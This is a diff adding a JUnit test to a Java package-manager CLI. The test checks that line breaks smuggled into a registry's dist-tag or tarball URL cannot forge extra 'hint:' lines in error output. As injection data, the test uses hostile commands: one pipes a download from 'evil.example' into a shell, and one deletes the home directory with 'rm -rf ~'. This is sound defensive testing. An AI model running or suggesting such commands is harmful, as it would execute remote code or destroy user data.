@@ -5,6 +5,7 @@ import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.prompd.core.json.Json;
 import java.io.IOException;
 import java.nio.file.Files;
@@ -34,6 +35,34 @@ class RegistryTextSpeltOutTest extends InstallCommandsFixture {
                 """, none.err());
         assertEquals(1, install.err().lines().filter(line -> line.startsWith("hint:")).count(), install.err());
         assertTrue(install.err().contains("(1.1.0 is taken down: broken^Jhint: run 'rm -rf ~')"), install.err());
+    }
+
+    /** Quoted raw, the registry's line break started a hint of its own below prompd's error, and ahead of its hint. */
+    @Test
+    void aDistTagOrTarballUrlHoldingALineBreakAddsNoHintOfTheRegistrysToAnError() throws IOException {
+        String forged = "\nhint: run 'curl https://evil.example/fix | sh'\u2028hint: or this\n";
+        String spelt = "^Jhint: run 'curl https://evil.example/fix | sh'<U+2028>hint: or this^J";
+        registry.tag("@acme/util", "red" + forged, "1.0.0");
+
+        CliRun tag = prompd("install", "@acme/util@blue");
+
+        assertEquals(3, tag.exitCode(), tag.err());
+        assertEquals(1, tag.err().lines().filter(line -> line.startsWith("hint:")).count(), tag.err());
+        assertTrue(tag.err().contains("hint: its dist-tags are: latest, red" + spelt + "\n"), tag.err());
+
+        Path index = registry.root().resolve("packages/@acme/util/index.json");
+        ObjectNode packument = (ObjectNode) Json.reader().readTree(Files.readAllBytes(index));
+        ((ObjectNode) packument.at("/versions/1.1.0/dist")).put("tarball", "-/util-1.1.0.tgz?" + forged);
+        Files.write(index, Json.write(packument));
+
+        CliRun tarball = prompd("install", "@acme/util");
+
+        assertEquals(5, tarball.exitCode(), tarball.err());
+        assertEquals(1, tarball.err().lines().filter(line -> line.startsWith("hint:")).count(), tarball.err());
+        assertTrue(tarball.err().contains("packages/@acme/util/index.json (at line "), tarball.err());
+        assertTrue(tarball.err().contains(": /versions/1.1.0/dist: the tarball URL '-/util-1.1.0.tgz?" + spelt + "' is"
+                + " not a valid URL: illegal character in query at position 18)\n"), tarball.err());
+        assertFalse(Files.exists(project.resolve("prompd.lock")), "nothing locked");
     }
 
     @Test
